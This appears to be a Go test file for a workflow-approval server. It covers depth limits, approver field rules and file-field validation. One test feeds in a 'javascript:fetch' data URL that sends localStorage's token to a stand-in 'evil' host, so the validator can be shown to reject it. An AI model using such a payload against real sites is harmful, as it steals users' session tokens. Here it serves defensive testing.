		assertError(t, e.do("POST", "/api/v1/instances", ann, M{"template": "plain", "context": M{"x": deep(200)}}, nil), 400, "too_deep")
		if r := e.do("POST", "/api/v1/instances", ann, M{"template": "plain", "context": M{"x": deep(60)}}, nil); r.Status != 201 {
			t.Fatalf("60 levels: %d %s", r.Status, r.Body)
		}
		erp := e.apiToken("erp")
		assertError(t, e.do("POST", "/api/v1/messages", erp, M{"name": "m", "correlation_id": "c", "data": M{"x": deep(100)}}, nil), 400, "too_deep")
		e.publish("deep", []any{start(M{"kind": "form", "form": M{"kind": "components", "fields": []any{}}}),
			M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"bob"}}}, M{"id": "hook", "type": "callback"}, M{"id": "end", "type": "end"}},
			[]any{edge("start", "lead"), edge("lead", "hook"), edge("hook", "end")})
		assertError(t, e.do("POST", "/api/v1/forms/deep/submit", ann, M{"x": deep(100)}, nil), 400, "too_deep")
		id := e.do("POST", "/api/v1/forms/deep/submit", ann, M{"x": 1}, nil).JSON["id"].(string)
		task := gjson.GetBytes(e.instance(id).Body, "tasks.0.id").String()
		assertError(t, e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{"data": M{"x": deep(100)}}, nil), 400, "too_deep")
		e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{}, nil)
		nid := gjson.GetBytes(e.instance(id).Body, `nodes.#(node_id=="hook").node_instance_id`).String()
		assertError(t, e.do("POST", "/api/v1/callback/"+id+"/"+nid, erp, M{"x": deep(100)}, nil), 400, "too_deep")
		if r := e.do("POST", "/api/v1/callback/"+id+"/"+nid, erp, M{"x": deep(10)}, nil); r.Status != 200 {
			t.Fatalf("callback: %d %s", r.Status, r.Body)
		}
	})
}

// The ready-made templates work under the approver rules: approvers fill in their form's editable fields, and
// what the applicant asked for stays as asked.
func TestReadyMadeTemplatesUnderTheApproverRules(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		// The production body limit: the ready-made templates are larger than the tests' 4 KiB.
		e := newEnv(t, s, func(d *server.Deps) { d.BodyLimit = 1 << 20 })
		bob, carol, fin := e.mkUser("bob"), e.mkUser("carol"), e.mkUser("fin", "finance")
		e.mkUser("dave")
		if r := e.do("POST", "/api/v1/departments", e.admin, M{"name": "eng", "leader": "carol"}, nil); r.Status != 201 {
			t.Fatalf("department: %s", r.Body)
		}
		if r := e.do("POST", "/api/v1/users", e.admin, M{"username": "ann", "password": "pw-ann-12345", "manager": "bob", "department": "eng"}, nil); r.Status != 201 {
			t.Fatalf("ann: %s", r.Body)
		}
		ann := e.do("POST", "/api/v1/auth/login", "", M{"username": "ann", "password": "pw-ann-12345"}, nil).JSON["token"].(string)
		list, err := templates.All()
		if err != nil {
			t.Fatal(err)
		}
		for _, tpl := range list {
			if tpl.Key != "leave" && tpl.Key != "expense-form" {
				continue
			}
			if r := e.do("POST", "/api/v1/templates", e.admin, M{"key": tpl.Key, "name": tpl.Name, "definition": tpl.Definition}, nil); r.Status != 201 {
				t.Fatalf("create %s: %s", tpl.Key, r.Body)
			}
			if r := e.do("POST", "/api/v1/templates/"+tpl.Key+"/publish", e.admin, nil, nil); r.Status != 201 {
				t.Fatalf("publish %s: %s", tpl.Key, r.Body)
			}
		}
		taskOf := func(id, node string) string {
			return gjson.GetBytes(e.instance(id).Body, `tasks.#(node_id=="`+node+`").id`).String()
		}

		// Leave: two days, escalated by the lead.
		id := e.do("POST", "/api/v1/instances", ann, M{"template": "leave", "context": M{"days": 2, "from": "2026-12-01", "reason": "move"}}, nil).JSON["id"].(string)
		lead := taskOf(id, "lead")
		assertError(t, e.do("POST", "/api/v1/tasks/"+lead+"/approve", bob, M{"data": M{"days": 1}}, nil), 422, "field_not_editable")
		if r := e.do("POST", "/api/v1/tasks/"+lead+"/approve", bob, M{"data": M{"lead_review": M{"deputy": "dave", "escalate": true}}}, nil); r.Status != 200 {
			t.Fatalf("lead approves: %d %s", r.Status, r.Body)
		}
		mgr := taskOf(id, "manager")
		assertError(t, e.do("POST", "/api/v1/tasks/"+mgr+"/approve", carol, M{"data": M{"lead_review": M{"deputy": "carol"}}}, nil), 422, "field_not_editable")
		if r := e.do("POST", "/api/v1/tasks/"+mgr+"/approve", carol, M{}, nil); r.Status != 200 {
			t.Fatalf("manager approves: %d %s", r.Status, r.Body)
		}
		if in := e.instance(id); in.JSON["status"] != "completed" || gjson.GetBytes(in.Body, "context.days").Int() != 2 || gjson.GetBytes(in.Body, "context.lead_review.deputy").String() != "dave" {
			t.Fatalf("leave: %s", in.Body)
		}

		// Expense claim: the manager cannot lower or raise it; finance books it on a cost centre.
		r := e.do("POST", "/api/v1/forms/expense-form/submit", ann, M{"amount": 1500, "reason": "conference"}, nil)
		if r.Status != 201 {
			t.Fatalf("claim: %d %s", r.Status, r.Body)
		}
		id = r.JSON["id"].(string)
		m := taskOf(id, "manager")
		assertError(t, e.do("POST", "/api/v1/tasks/"+m+"/approve", bob, M{"data": M{"amount": 150000}}, nil), 422, "field_not_editable")
		e.do("POST", "/api/v1/tasks/"+m+"/approve", bob, M{}, nil)
		f := taskOf(id, "finance")
		assertError(t, e.do("POST", "/api/v1/tasks/"+f+"/approve", fin, M{"data": M{"amount": 1}}, nil), 422, "field_not_editable")
		if r := e.do("POST", "/api/v1/tasks/"+f+"/approve", fin, M{"data": M{"booking": M{"cost_centre": "CC-42"}}}, nil); r.Status != 200 {
			t.Fatalf("finance approves: %d %s", r.Status, r.Body)
		}
		in := e.instance(id)
		if nodeState(in, "pay") != "waiting" || gjson.GetBytes(in.Body, "context.amount").Int() != 1500 || gjson.GetBytes(in.Body, "context.booking.cost_centre").String() != "CC-42" {
			t.Fatalf("claim after finance: %s", in.Body)
		}
	})
}

// TestSecurityDocCoversEveryRoute keeps docs/security.md's table of principals × actions in step with the router:
// a new route fails this test until the table says who may call it.
func TestSecurityDocCoversEveryRoute(t *testing.T) {
	doc, err := os.ReadFile("../docs/security.md")
	if err != nil {
		t.Fatal(err)
	}
	var router *gin.Engine
	s := storetest.Open(t, store.SQLite)
	newEnv(t, s, func(d *server.Deps) {
		d.Subscriptions = subscription.New(s, subscription.Options{Logger: testkit.Quiet()})
		twin, err := server.New(*d)
		if err != nil {
			t.Fatal(err)
		}
		router = twin.Handler().(*gin.Engine)
	})
	methods := map[string][]string{}
	for _, r := range router.Routes() {
		methods[r.Path] = append(methods[r.Path], r.Method)
	}
	for path, ms := range methods {
		p := strings.TrimPrefix(path, "/api/v1")
		if len(ms) >= 7 { // gin's Any
			ms = []string{"ANY"}
		}
		for _, m := range ms {
			if !strings.Contains(string(doc), "`"+m+" "+p+"`") {
				t.Errorf("docs/security.md does not say who may call `%s %s`", m, p)
			}
		}
	}
}

// Second audit, item 5: a value that a form of the template (the start form or a node's) declares as a file field
// is checked however the instance starts — POST /instances, a form submission, an API trigger (sync and async), a
// message — and a refused start stores nothing.
func TestEveryStartChecksFileFields(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		bob := e.mkUser("bob")
		erp := e.apiToken("erp")
		proofForm := M{"kind": "components", "fields": []any{M{"id": "p", "type": "attachment", "label": "Proof", "field": "proof"}}}
		review := M{"id": "review", "type": "approval", "approvers": M{"users": []string{"bob"}}, "form": proofForm}
		edges := []any{edge("start", "review"), edge("review", "end")}
		end := M{"id": "end", "type": "end"}
		e.publish("by-hand", []any{start(M{"kind": "manual"}), review, end}, edges)
		e.publish("by-form", []any{start(M{"kind": "form", "form": M{"kind": "components", "fields": []any{}}}), review, end}, edges)
		e.publish("by-sync", []any{start(M{"kind": "sync-api", "module": "fin", "function": "claim"}), review, end}, edges)
		e.publish("by-async", []any{start(M{"kind": "async-api", "module": "fin", "function": "claim-later"}), review, end}, edges)
		e.publish("by-message", []any{start(M{"kind": "message", "message": "claim.filed"}), review, end}, edges)

		bad := []any{M{"name": "receipt.html", "data_url": "javascript:fetch('//evil/'+localStorage.token)"}}
		good := []any{M{"name": "receipt.txt", "size": 1, "type": "text/plain", "data_url": "data:text/plain;base64,eA=="}}
		sent := 0
		starts := map[string]func(proof any) resp{
			"POST /instances": func(proof any) resp {
				return e.do("POST", "/api/v1/instances", bob, M{"template": "by-hand", "context": M{"proof": proof}}, nil)
			},
			"form": func(proof any) resp { return e.do("POST", "/api/v1/forms/by-form/submit", bob, M{"proof": proof}, nil) },
			"sync trigger": func(proof any) resp {
				return e.do("POST", "/api/v1/trigger/sync/fin/claim", "", M{"proof": proof}, nil)
			},
			"async trigger": func(proof any) resp {
				return e.do("POST", "/api/v1/trigger/async/fin/claim-later", "", M{"proof": proof}, nil)
			},
			"message": func(proof any) resp {
				sent++ // a correlation id per message: a running instance would claim the next one
				return e.do("POST", "/api/v1/messages", erp, M{"name": "claim.filed", "correlation_id": "claim-" + strconv.Itoa(sent), "data": M{"proof": proof}}, nil)
			},
		}
		for name, startWith := range starts {
			before := e.rowCount("instances", "1 = 1")
			r := startWith(bad)
			assertError(t, r, 422, "invalid_file")
			if gjson.GetBytes(r.Body, "error.details.field").String() != "proof" {
				t.Fatalf("%s: the error does not name the field: %s", name, r.Body)
			}
			if n := e.rowCount("instances", "1 = 1"); n != before {
				t.Fatalf("%s: a refused start stored %d instances", name, n-before)
			}
			if r := startWith(good); r.Status >= 300 {
				t.Fatalf("%s with a valid file: %d %s", name, r.Status, r.Body)
			}
			if n := e.rowCount("instances", "1 = 1"); n != before+1 {
				t.Fatalf("%s with a valid file started %d instances", name, n-before)
			}
		}
	})
}
